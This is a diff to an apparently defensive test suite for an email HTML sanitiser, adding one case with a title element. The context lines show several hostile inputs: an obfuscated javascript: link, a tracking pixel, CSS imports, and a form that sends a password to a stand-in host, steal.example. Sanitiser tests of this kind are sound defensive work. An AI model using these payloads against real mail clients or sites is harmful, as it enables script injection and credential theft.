@@ -87,6 +87,7 @@ describe("a mail", () => {
     ["a javascript link", '<a href="java&#10;script:steal()">Hi</a>'],
     ["a data link", '<a href="data:text/html,steal()">Hi</a>'],
     ["a remote picture", '<img src="http://steal.example/pixel.gif">Hi'],
+    ["a title", "<html><head><title>steal</title></head><body>Hi</body></html>"],
     ["a style", '<style>@import "http://steal.example"</style><p style="background:url(http://steal.example)">Hi</p>'],
     ["a frame", '<iframe srcdoc="steal"></iframe><object data="steal"></object>Hi'],
     ["a form", '<form action="http://steal.example"><input name="password"></form>Hi'],
